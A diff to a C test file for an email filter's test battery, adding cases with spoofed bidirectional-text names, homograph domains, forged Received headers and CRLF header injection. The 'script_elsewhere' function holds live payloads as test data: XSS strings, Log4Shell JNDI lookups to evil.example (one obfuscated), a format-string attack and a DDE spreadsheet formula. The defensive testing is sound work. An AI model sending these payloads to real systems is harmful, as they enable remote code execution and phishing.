@@ -1,5 +1,6 @@
 /* T086 to T097, T109 to T118, T121 to T123, T127 to T130, T171: the other fields. */
 #include "battery/fixture.h"
+#include "battery/signature.h"
 
 #define QUAR_OR_REJECT (BATTERY_QUARANTINE | BATTERY_REJECT)
 #define FLAG_OR_MORE (BATTERY_FLAG | QUAR_OR_REJECT)
@@ -127,7 +128,17 @@ static void send_extra(struct kit *k, const char *variant, str lines)
 
 static void two_subjects(struct kit *k)
 {
-	send_extra(k, "", STR("Subject: Autre sujet\r\n"));
+	struct kit_mail m = kit_mail(k);
+	const struct signature twice = { .domain = "partner.example",
+					 .fields = "from:from:to:to:subject:subject:date" };
+
+	send_extra(k, "a", STR("Subject: Autre sujet\r\n"));
+	/* Behind the back of a signature that says there is only one. */
+	kit_send_bytes(k, "b", &m,
+		       kit_join(k,
+				(const str[]){ STR("Subject: Autre sujet\r\n"),
+					       signature_dkim(k, kit_bytes(k, &m), &twice) },
+				2));
 }
 
 static void repeated(struct kit *k)
@@ -154,6 +165,12 @@ static void bidirectional(struct kit *k)
 	m = kit_mail(k);
 	kit_text(k, &m, STR("Voir =E2=80=AEhttps://evil.example/ ici"));
 	kit_send(k, "b", &m);
+	m = kit_mail(k);
+	m.from = STR("=?utf-8?Q?Marie_=E2=80=AEnitraM=E2=80=AC?= <marie.martin@partner.example>");
+	kit_send(k, "c", &m);
+	m = kit_mail(k);
+	m.to = STR("=?utf-8?Q?Alice_=E2=81=A6titeP=E2=81=A9_=E2=80=AExe?= <alice@hopital.example>");
+	kit_send(k, "d", &m);
 }
 
 static void invisible(struct kit *k)
@@ -165,6 +182,11 @@ static void invisible(struct kit *k)
 	m = kit_mail(k);
 	m.subject = STR("=?utf-8?Q?Do=C2=ADcu=C2=ADments_du_ser=C2=ADvice?=");
 	kit_send(k, "b", &m);
+	m = kit_party(k, "xn--hpital-wqf.example", "203.0.113.80",
+		      STR("Accueil <accueil@xn--hpital-wqf.example>"));
+	m.signer = NULL;
+	kit_expect(k, FLAG_OR_MORE, "LOOKALIKE_OWN_DOMAIN|FROM_DOMAIN_HOMOGRAPH");
+	kit_send(k, "c", &m);
 }
 
 static void subject_base64(struct kit *k)
@@ -203,6 +225,28 @@ static void other_encoded(struct kit *k)
 	kit_expect(k, FLAG_OR_MORE, "CC_EXCESS_QP");
 	m.cc = STR("=?utf-8?Q?Bob?= <bob@hopital.example>");
 	kit_send(k, "d", &m);
+	m = kit_mail(k);
+	kit_expect(k, FLAG_OR_MORE, "TO_EXCESS_QP");
+	m.to = STR("=?utf-8?Q?Alice_Petit?= <alice@hopital.example>");
+	kit_send(k, "e", &m);
+	m = kit_mail(k);
+	kit_expect(k, FLAG_OR_MORE, "CC_EXCESS_BASE64");
+	m.cc = STR("=?utf-8?B?Qm9i?= <bob@hopital.example>");
+	kit_send(k, "f", &m);
+}
+
+/* As an encoded word, with an end for those who want a C string. */
+static str nested(struct kit *k, str text)
+{
+	str b64 = kit_base64(k, text);
+	struct strbuf b = strbuf_make(k->arena, 4096);
+
+	strbuf_put(&b, STR("=?utf-8?B?"));
+	for (size_t i = 0; i < b64.n; i++) {
+		if (!str_is_space(b64.p[i]))
+			strbuf_char(&b, b64.p[i]);
+	}
+	return kit_fmt(k, "%.*s?=", STR_ARG(strbuf_str(&b)));
 }
 
 static void nested_words(struct kit *k)
@@ -210,7 +254,19 @@ static void nested_words(struct kit *k)
 	struct kit_mail m = kit_mail(k);
 
 	m.subject = STR("=?utf-8?B?PT91dGYtOD9CP1JtRmpkSFZ5WlE9PT89?=");
-	kit_send(k, "", &m);
+	kit_send(k, "a", &m);
+	m.subject = nested(k, nested(k, nested(k, STR("Facture impay\xc3\xa9"
+						      "e"))));
+	kit_send(k, "b", &m);
+	m = kit_mail(k);
+	m.from = kit_fmt(k, "%.*s <marie.martin@partner.example>",
+			 STR_ARG(nested(k, nested(k, STR("Marie Martin")))));
+	kit_send(k, "c", &m);
+	m = kit_mail(k);
+	kit_expect(k, QUAR_OR_REJECT, NULL);
+	kit_attach(k, &m, "application/octet-stream",
+		   nested(k, nested(k, STR("setup.exe"))).p, fixture_com(k));
+	kit_send(k, "d", &m);
 }
 
 static void broken_words(struct kit *k)
@@ -225,6 +281,13 @@ static void broken_words(struct kit *k)
 	kit_send(k, "c", &m);
 	m.subject = STR("=?utf-7?Q?+ADw-script+AD4-?=");
 	kit_send(k, "d", &m);
+	/* A character cut in two, blanks inside, and a word of 600 characters. */
+	m.subject = STR("=?utf-8?Q?Pay=C3?= =?utf-8?Q?=A9?=");
+	kit_send(k, "e", &m);
+	m.subject = STR("=?utf-8?Q?Facture du mois?=");
+	kit_send(k, "f", &m);
+	m.subject = kit_fmt(k, "=?utf-8?Q?%.*s?=", STR_ARG(kit_repeat(k, STR("=C3=A9"), 100)));
+	kit_send(k, "g", &m);
 }
 
 static void injected(struct kit *k)
@@ -236,6 +299,10 @@ static void injected(struct kit *k)
 	m = kit_mail(k);
 	m.from = STR("=?utf-8?Q?Marie=0AMartin?= <marie.martin@partner.example>");
 	kit_send(k, "c", &m);
+	m = kit_mail(k);
+	kit_attach(k, &m, "text/plain", "=?utf-8?Q?a=0D=0AContent-Type:_text/html=0D=0A.txt?=",
+		   fixture_txt(k));
+	kit_send(k, "b", &m);
 }
 
 static void giant(struct kit *k)
@@ -251,8 +318,31 @@ static void giant(struct kit *k)
 
 static void folding(struct kit *k)
 {
+	struct kit_mail m = kit_mail(k);
+
 	send_extra(k, "a", STR("X-A: a\r\n   \r\n b\r\n"));
 	send_extra(k, "b", STR("X-A: =?utf-8?Q?a\r\n b?=\r\n \t \r\n"));
+	kit_send_bytes(k, "c", &m,
+		       kit_join(k, (const str[]){ STR(" suite de rien\r\n"), kit_bytes(k, &m) }, 2));
+	kit_expect(k, BATTERY_ACCEPT | FLAG_OR_MORE, NULL);
+	m.subject = STR("=?utf-8?Q?Documents\r\n du?= service");
+	kit_send(k, "d", &m);
+}
+
+/* From somebody whose signature does not answer for the field. */
+static void forged_by_us(struct kit *k)
+{
+	struct kit_mail m = kit_mail(k);
+
+	m.signer = NULL;
+	m.extra = STR("Received: from evil.example (evil.example [203.0.113.80]) by "
+		      "mx1.hopital.example with ESMTP id 1; Sat, 21 Nov 2026 18:00:00 +0100\r\n");
+	kit_expect(k, FLAG_OR_MORE, "FORGED_RECEIVED_OURS");
+	kit_send(k, "b", &m);
+	m.extra = STR("Received: from a.example (a.example [203.0.113.5]) by b.example (Postfix) "
+		      "with ESMTP id 4ABCDEF012; Sat, 21 Nov 2026 18:00:00 +0100\r\n");
+	kit_expect(k, FLAG_OR_MORE, "INVALID_POSTFIX_RECEIVED");
+	kit_send(k, "c", &m);
 }
 
 static void forged_received(struct kit *k)
@@ -260,6 +350,19 @@ static void forged_received(struct kit *k)
 	send_extra(k, "a",
 		   STR("Received: from [203.0.113.5] by mx.hopital.example; Mon, 01 Jan 2024 "
 		       "10:00:00 +0000\r\n"));
+	kit_expect(k, FLAG_OR_MORE, "FORGED_GENERIC_RECEIVED2");
+	send_extra(k, "a2",
+		   STR("Received: from 203.0.113.5 (HELO abcd) by mail.evil.example; Mon, 01 Jan "
+		       "2024 10:00:00 +0000\r\n"));
+	kit_expect(k, FLAG_OR_MORE, "FORGED_GENERIC_RECEIVED3");
+	send_extra(k, "a3",
+		   STR("Received: by mail.evil.example (8.11) id abcdef123456; Mon, 01 Jan 2024 "
+		       "10:00:00 +0000 (Standard Time)\r\n"));
+	kit_expect(k, FLAG_OR_MORE, "FORGED_GENERIC_RECEIVED4");
+	send_extra(k, "a4",
+		   STR("Received: from abcd (203.0.113.5) by efgh with SMTP id 12; Mon, 01 Jan 2024 "
+		       "10:00:00 +0000\r\n"));
+	forged_by_us(k);
 }
 
 static void bytes_in_received(struct kit *k)
@@ -270,6 +373,9 @@ static void bytes_in_received(struct kit *k)
 	send_extra(k, "b",
 		   STR("Received: from a\x07 ([203.0.113.5]) by x.example; Sat, 21 Nov 2026 "
 		       "18:00:00 +0100\r\n"));
+	send_extra(k, "c",
+		   STR("Received: from a\0b ([203.0.113.5]) by x.example; Sat, 21 Nov 2026 18:00:00 "
+		       "+0100\r\n"));
 }
 
 static void no_mime_version(struct kit *k)
@@ -285,6 +391,12 @@ static void no_mime_version(struct kit *k)
 	m.malicious = true;
 	kit_attach(k, &m, "application/zip", "a.zip", fixture_zip1(k, "setup.exe", fixture_pe(k)));
 	kit_send(k, "aM", &m);
+	kit_expect(k, FLAG_OR_MORE, "MISSING_MIME_VERSION");
+	m = kit_mail(k);
+	m.mime_version = STR("2.0");
+	kit_send(k, "b", &m);
+	kit_expect(k, BATTERY_ACCEPT | FLAG_OR_MORE, "MULTIPLE_UNIQUE_HEADERS|DUPLICATE_MINOR");
+	send_extra(k, "c", STR("MIME-Version: 1.0\r\n"));
 }
 
 static void type_only(struct kit *k)
@@ -295,6 +407,35 @@ static void type_only(struct kit *k)
 	m.entity =
 		STR("Content-Type: text/html\r\n\r\n<html><body><p>Bonjour</p></body></html>\r\n");
 	kit_send(k, "", &m);
+}
+
+/* The type of the whole message, with a body that only some cut into parts. */
+static void broken_top(struct kit *k)
+{
+	static const struct {
+		const char *variant, *type;
+		uint32_t harmless;
+	} tops[] = {
+		{ "g", "multipart", FLAG_OR_MORE },
+		{ "h", "multipart/", FLAG_OR_MORE },
+		{ "i", "/mixed", FLAG_OR_MORE },
+		{ "j", "ultipart/mixed", FLAG_OR_MORE },
+		{ "k", "singlepart/mixed", FLAG_OR_MORE },
+		{ "l", "\"multipart/mixed\"", FLAG_OR_MORE },
+		{ "m", "=?utf-8?Q?multipart/mixed?=", FLAG_OR_MORE },
+		/* Capitals are as good as small letters, and any multipart is read as mixed. */
+		{ "n", "mULtiPArt/MIxed", BATTERY_ACCEPT | FLAG_OR_MORE },
+		{ "o", "multipart/unknown", BATTERY_ACCEPT | FLAG_OR_MORE },
+		{ "p", "multipart / mixed", BATTERY_ACCEPT | FLAG_OR_MORE },
+	};
+
+	for (size_t i = 0; i < ARRAY_LEN(tops); i++)
+		kit_send_template(k, tops[i].variant, tops[i].harmless, NULL,
+				  kit_fmt(k,
+					  "Content-Type: %s; boundary=\"{b}\"\n\n--{b}\n{text}"
+					  "--{b}\n{part}--{b}--\n",
+					  tops[i].type)
+					  .p);
 }
 
 static void broken_type(struct kit *k)
@@ -310,6 +451,7 @@ static void broken_type(struct kit *k)
 		kit_expect(k, BATTERY_ACCEPT | FLAG_OR_MORE, i == 3 ? NULL : "BROKEN_CONTENT_TYPE");
 		kit_send(k, kit_fmt(k, "%cB", (int)('a' + i)).p, &m);
 	}
+	broken_top(k);
 }
 
 static void unknown_type(struct kit *k)
@@ -322,6 +464,32 @@ static void unknown_type(struct kit *k)
 	*arena_push(k->arena, &m.parts) = kit_part_base64(
 		k, STR("Content-Disposition: attachment; filename=\"a.dat\"\r\n"), fixture_txt(k));
 	kit_send(k, "c", &m);
+	kit_send_attached(k, "d", "chemical/x-zzz", "a.dat", fixture_txt(k));
+}
+
+static void script_elsewhere(struct kit *k)
+{
+	struct kit_mail m = kit_mail(k);
+
+	m.from = STR("\"<script>alert(1)</script>\" <marie.martin@partner.example>");
+	kit_send(k, "f1", &m);
+	m.from = STR("=?utf-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?= <marie.martin@partner.example>");
+	kit_send(k, "f2", &m);
+	m = kit_mail(k);
+	m.message_id = STR("<${jndi:ldap://evil.example/a}@partner.example>");
+	kit_send(k, "g", &m);
+	kit_send_attached(k, "h1", "text/plain", "<img src=x onerror=alert(1)>.txt",
+			  fixture_txt(k));
+	kit_send_attached(k, "h2", "text/plain", "${jndi:ldap://evil.example/a}.txt",
+			  fixture_txt(k));
+	m = kit_mail(k);
+	m.subject = STR("%n%n%n%s%s%s");
+	kit_send(k, "i", &m);
+	m.subject = STR("=cmd|' /C calc'!A0");
+	kit_send(k, "j", &m);
+	m = kit_mail(k);
+	m.extra = STR("X-Test: ${${lower:j}ndi:ldap://evil.example/a}\r\n");
+	kit_send(k, "k", &m);
 }
 
 static void script_in_fields(struct kit *k)
@@ -336,6 +504,7 @@ static void script_in_fields(struct kit *k)
 		m.subject = str_c(texts[i]);
 		kit_send(k, kit_fmt(k, "%c", (int)('a' + i)).p, &m);
 	}
+	script_elsewhere(k);
 }
 
 #define FLAGGED(id, what, symbols, make)                                                           \
